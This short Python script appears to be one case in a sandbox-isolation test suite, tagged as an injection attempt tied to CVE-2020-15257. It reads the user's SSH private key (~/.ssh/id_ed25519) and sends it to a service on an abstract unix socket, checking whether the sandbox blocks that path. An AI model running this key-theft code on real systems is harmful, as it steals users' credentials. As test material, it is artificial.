# family: injection
# tries: send the user's SSH key to a host service listening on an abstract unix socket (argv 6): abstract names live in the network namespace, not the file system
# source: https://nvd.nist.gov/vuln/detail/CVE-2020-15257
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
import os
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
home, name = sys.argv[2], sys.argv[6]
try:
    with open(os.path.join(home, ".ssh", "id_ed25519"), "rb") as f:
        key = f.read()
except OSError as e:
    sys.exit(f"key: {e.strerror}")
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.settimeout(3)
try:
    s.connect("\0" + name)
    s.sendall(key)
    print(f"sent {len(key)} bytes to @{name}")
except OSError as e:
    print(f"@{name}: {e}")
